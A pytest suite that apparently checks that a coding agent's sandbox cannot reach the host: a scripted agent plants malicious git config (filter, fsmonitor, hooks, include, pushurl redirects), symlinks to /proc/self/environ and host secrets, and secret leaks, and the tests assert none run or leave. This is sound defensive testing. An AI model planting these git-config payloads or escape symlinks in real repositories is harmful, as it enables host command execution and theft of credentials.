"""The boundary: whatever the agent writes in its sandbox is data to Paid, never code or configuration it obeys.

A scripted agent, working inside the real bubblewrap and Docker sandboxes, plants each of the ways an agent has
turned repository state into host code execution or token theft. Paid then commits and pushes on the host. No
planted command may run on the host, no request may go anywhere but the forge, and the canary secrets in Paid's
environment may appear nowhere: not in the ledger, the forge's database or git objects, nor the model requests.
"""

from __future__ import annotations

import base64
import os
import sqlite3
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from paid_dagster.agent.workspace import SecretInChanges, Workspace, git_dir_for
from paid_dagster.keys import issue_key

from .harness import SUBMIT, Harness, bash, harness

CANARY_PROVIDER_KEY = "sk-ant-api03-canaryProviderKey0123456789abcdef"
CANARY_DB_PASSWORD = "CanaryDbPassw0rd7731"


class Trap:
    """An HTTP server that no request should ever reach: every request is a leak."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        trap = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                trap.hits.append(f"GET {self.path} {self.headers.get('Authorization', '')}")
                self.send_response(404)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def trap() -> Iterator[Trap]:
    running = Trap()
    yield running
    running.close()


@pytest.fixture
def canaries(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> dict[str, str]:
    """Secrets in Paid's environment, as a production deployment has them, plus a secret file on the host."""
    monkeypatch.setenv("ANTHROPIC_API_KEY", CANARY_PROVIDER_KEY)
    monkeypatch.setenv("DATABASE_URL", f"postgresql://paid:{CANARY_DB_PASSWORD}@db.internal:5432/paid")
    secret_file = tmp_path / "host-secret.txt"
    secret_file.write_text("HostSecretFileCanary-55aa\n")
    return {"provider key": CANARY_PROVIDER_KEY, "db password": CANARY_DB_PASSWORD, "file": "HostSecretFileCanary-55aa"}


def forms(value: str) -> list[str]:
    """The value and the encodings a leak would most likely take."""
    return [
        value,
        quote(value, safe=""),
        base64.b64encode(value.encode()).decode().rstrip("="),
        base64.b64encode(f"x-access-token:{value}".encode()).decode().rstrip("="),
    ]


def git_objects(bare: Path) -> bytes:
    """Every object of a bare repository, uncompressed."""
    return subprocess.run(
        ["git", "--git-dir", str(bare), "cat-file", "--batch-all-objects", "--batch"], capture_output=True, check=True
    ).stdout


def forge_content(database: Path) -> bytes:
    """Everything GitHub would show: every table of the forge but its own list of tokens."""
    with sqlite3.connect(database) as db:
        tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'") if r[0] != "tokens"]
        return repr([db.execute(f"SELECT * FROM {table}").fetchall() for table in tables]).encode()


def everything_that_left(h: Harness, tmp: Path) -> bytes:
    """The ledger, the forge's database and every git object it holds, and every request the model received."""
    blobs = [b"".join(h.model.request_bodies), forge_content(tmp / "forge" / "forge.sqlite3")]
    for path in tmp.glob("ledger.sqlite3*"):
        blobs.append(path.read_bytes())
    for bare in (tmp / "forge").rglob("*.git"):
        if (bare / "objects").is_dir():
            blobs.append(git_objects(bare))
    return b"\n".join(blobs)


def assert_no_canary(h: Harness, tmp: Path, canaries: dict[str, str]) -> None:
    haystack = everything_that_left(h, tmp)
    assert h.model.request_bodies, "the model was never asked"
    token = h.forge.token(h.seed.bot)
    for name, value in [*canaries.items(), ("github token", token)]:
        for form in forms(value):
            assert form.encode() not in haystack, f"the {name} leaked (as {form[:12]}…)"


# Each attack: config lines planted in a `.git/config` the agent controls (and in Paid's read-only git view, which
# must refuse them), plus files it places in the working tree. HOST marks where a command would prove it ran.
ATTACKS: dict[str, tuple[str, dict[str, str]]] = {
    "filter": (
        '[filter "paid"]\n\tclean = sh -c "touch HOST; env > exfil.txt; cat"\n\tsmudge = sh -c "touch HOST; cat"',
        {".gitattributes": "* filter=paid\n"},
    ),
    "fsmonitor": ('[core]\n\tfsmonitor = sh -c "touch HOST; env > exfil.txt"', {}),
    "hooks": (
        "[core]\n\thooksPath = hooks",
        {
            f"hooks/{hook}": "#!/bin/sh\ntouch HOST\nenv > exfil.txt\n"
            for hook in ("pre-commit", "post-commit", "pre-push")
        },
    ),
    "include": ("[include]\n\tpath = ../evil.cfg", {"evil.cfg": '[core]\n\tfsmonitor = sh -c "touch HOST"\n'}),
    "pushurl": ('[remote "origin"]\n\tpushurl = TRAP/stolen.git\n[url "TRAP/"]\n\tinsteadOf = FORGE/', {}),
}


def plant(attack: str, host_canary: Path, trap: Trap, forge_url: str) -> list[dict[str, str]]:
    config, files = ATTACKS[attack]
    config = config.replace("HOST", str(host_canary)).replace("TRAP", trap.url).replace("FORGE", forge_url)
    turns = [
        bash(
            f"mkdir -p .git && cat >> .git/config <<'CFG'\n{config}\nCFG\n"
            f'(cat .git/config >> "$GIT_DIR/config") 2>/dev/null && echo PLANTED-IN-PAID-GIT || echo refused',
            "Plant the configuration.",
        )
    ]
    for path, content in files.items():
        content = content.replace("HOST", str(host_canary))
        turns.append(bash(f"mkdir -p $(dirname {path}) && cat > {path} <<'TXT'\n{content}TXT\nchmod +x {path}"))
    turns.append(bash("echo 'A harmless change.' >> README.md"))
    return [*turns, SUBMIT]


def check_run(h: Harness, tmp: Path, host_canary: Path, trap: Trap, canaries: dict[str, str]) -> None:
    run = h.run()
    paid_git = git_dir_for(Path(run.worktree))
    assert str(host_canary) not in (paid_git / "config").read_text(), "the agent wrote Paid's git configuration"
    published = h.publish(run)  # pushes with Paid's git, then removes the run's files
    assert published is not None and run.commits_ahead >= 1, run.outcome
    assert not host_canary.exists(), "a planted command ran on the host"
    assert trap.hits == [], f"a request left for an address the agent chose: {trap.hits}"
    assert not paid_git.exists()
    bare = h.forge.service.git(h.forge.repo(h.seed.repo))
    pushed = bare.git("ls-tree", "-r", "--name-only", f"refs/heads/{run.branch}").split()
    assert "README.md" in pushed and not any(p == ".git" or p.startswith(".git/") for p in pushed)
    assert "exfil.txt" not in pushed
    assert_no_canary(h, tmp, canaries)


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_planted_git_configuration_is_inert(attack: str, tmp_path: Path, trap: Trap, canaries: dict[str, str]) -> None:
    host_canary = tmp_path / f"ran-{attack}"
    with harness(tmp_path, {"conversations": []}, checks=False) as h:
        h.model.script.conversations = [
            {"match": ".*", "turns": plant(attack, host_canary, trap, h.forge.url.split("/api")[0])}
        ]
        check_run(h, tmp_path, host_canary, trap, canaries)


EVERYTHING_AT_ONCE = """
mkdir -p planted && cd planted && env -u GIT_DIR -u GIT_WORK_TREE git init -q . && cd .. &&
printf '[core]\\n\\tfsmonitor = sh -c "touch HOST"\\n' >> planted/.git/config &&
ln -s planted/.git .git &&
mkdir -p sub && echo 'gitdir: ../planted/.git' > sub/.git && echo 'print(1)' > sub/tool.py &&
ln -s HOSTSECRET leaked-secret.txt && ln -s /proc/self/environ leaked-environ.txt &&
ln -s ../../.. escape && mkfifo pipe &&
echo 'A harmless change.' >> README.md && ls -la
"""


@pytest.mark.parametrize("sandbox", ["bubblewrap", "docker"])
def test_planted_git_directories_and_links_are_inert(
    sandbox: str, tmp_path: Path, trap: Trap, canaries: dict[str, str]
) -> None:
    """A `.git` that is a symlink to a planted repository, a `.git` file in a subdirectory, symlinks to a host
    secret, to Paid's environment and out of the tree, a FIFO — with every git attack above planted as well."""
    host_canary = tmp_path / "ran-everything"
    command = EVERYTHING_AT_ONCE.replace("HOSTSECRET", str(tmp_path / "host-secret.txt")).replace(
        "HOST", str(host_canary)
    )
    with harness(tmp_path, {"conversations": []}, sandbox=sandbox, checks=False) as h:
        forge_url = h.forge.url.split("/api")[0]
        attacks = [t for name in sorted(ATTACKS) for t in plant(name, host_canary, trap, forge_url)[:-2]]
        h.model.script.conversations = [{"match": ".*", "turns": [*attacks, bash(command), SUBMIT]}]
        check_run(h, tmp_path, host_canary, trap, canaries)
        run_events = h.ledger.read(stream=issue_key(h.seed.repo, 1), kinds=["changes.refused"])
        refused = " ".join(p for e in run_events for p in e.data.get("paths", []))
        for name in ("leaked-secret.txt", "leaked-environ.txt", "escape"):
            assert name in refused, f"{name} was not reported as refused: {refused}"
        bare = h.forge.service.git(h.forge.repo(h.seed.repo))
        branch = next(e.data["branch"] for e in h.ledger.read(stream=issue_key(h.seed.repo, 1), kinds=["run.started"]))
        pushed = bare.git("ls-tree", "-r", "--name-only", f"refs/heads/{branch}").split()
        assert "sub/tool.py" in pushed and "leaked-secret.txt" not in pushed and "pipe" not in pushed


def test_printed_and_committed_secrets_are_masked_and_never_pushed(
    tmp_path: Path, trap: Trap, canaries: dict[str, str]
) -> None:
    with harness(tmp_path, {"conversations": []}, checks=False) as h:
        token = h.forge.token(h.seed.bot)
        basic = base64.b64encode(f"x-access-token:{token}".encode()).decode()
        leak = f"{token} {CANARY_PROVIDER_KEY} {CANARY_DB_PASSWORD} {basic}"
        h.model.script.conversations = [
            {
                "match": ".*",
                "turns": [
                    bash(f"echo 'I found these: {leak}'", "Print what I found."),
                    bash(f"echo '{leak}' > notes.txt && echo 'A harmless change.' >> README.md"),
                    SUBMIT,
                ],
            }
        ]
        run = h.run()
        assert run.outcome == "secret_in_changes" and run.commits_ahead == 1
        assert "nothing was pushed" in (run.stopped_because or "")
        # The push itself refuses, should anything ever call it.
        workspace = Workspace(Path(run.worktree), h.client.repo(h.seed.repo).clone_url, token, run.branch, run.base)
        with pytest.raises(SecretInChanges) as refusal:
            workspace.push()
        assert token not in str(refusal.value) and CANARY_PROVIDER_KEY not in str(refusal.value)
        assert h.publish(run) is None
        assert not Path(run.worktree).exists(), "the refused branch's files (with the secret) were kept"
        bare = h.forge.service.git(h.forge.repo(h.seed.repo))
        assert run.branch not in bare.git("branch", "--list"), "the branch with the secret was pushed"
        stream = issue_key(h.seed.repo, 1)
        refused = h.ledger.read(stream=stream, kinds=["changes.refused"])
        assert refused and "the GitHub token" in refused[0].data["origins"]
        comments = h.issue_comments()
        assert any("contain a secret" in c for c in comments), comments
        # The agent's observation (which printed them) went back to the model: masked there too.
        assert any(b"[redacted]" in body for body in h.model.request_bodies)
        assert_no_canary(h, tmp_path, canaries)


def test_the_working_files_hold_no_git_of_paids(tmp_path: Path) -> None:
    """The sandbox sees Paid's git read-only: `git diff` works, writing it does not."""
    script = {
        "conversations": [
            {
                "match": ".*",
                "turns": [
                    bash("echo change >> README.md && git diff --stat && git status --short", "Look at git."),
                    bash('ls -a; touch "$GIT_DIR/planted" 2>&1; git commit -qam x 2>&1 | tail -1'),
                    SUBMIT,
                ],
            }
        ]
    }
    with harness(tmp_path, script, checks=False) as h:
        run = h.run()
        worktree = Path(run.worktree)
        assert not (worktree / ".git").exists()
        assert not (git_dir_for(worktree) / "planted").exists()
        agent_saw = [c.last_user_message for c in h.model.calls]
        assert any("README.md | 1 +" in m for m in agent_saw), agent_saw
        assert any("Read-only file system" in m for m in agent_saw), agent_saw
        assert run.commits_ahead == 1


@pytest.mark.parametrize("name", ["non-utf8", "newline"])
def test_odd_file_names_do_not_break_the_commit(name: str, tmp_path: Path) -> None:
    command = {"non-utf8": "touch $'caf\\xe9.txt'", "newline": "touch $'two\\nlines.txt'"}[name]
    script = {"conversations": [{"match": ".*", "turns": [bash(command), SUBMIT]}]}
    with harness(tmp_path, script, checks=False) as h:
        run = h.run()
        assert run.outcome == "completed" and run.commits_ahead == 1, run
        assert os.listdir(run.worktree)


def test_what_runs_leave_behind_is_swept_once_old(tmp_path: Path) -> None:
    """A run that crashed or gave up keeps its files for inspection; after the retention they go."""
    import os
    import time

    from paid_dagster.agent.workspace import sweep_runs

    work = tmp_path / "work"
    for name, age_days in (("old-run", 10), ("recent-run", 1)):
        (work / name / "repo").mkdir(parents=True)
        (work / name / "repo" / "file.txt").write_text("x")
        past = time.time() - age_days * 86400
        os.utime(work / name, (past, past))
    assert sweep_runs(work, max_age_days=7) == ["old-run"]
    assert sorted(p.name for p in work.iterdir()) == ["recent-run"]
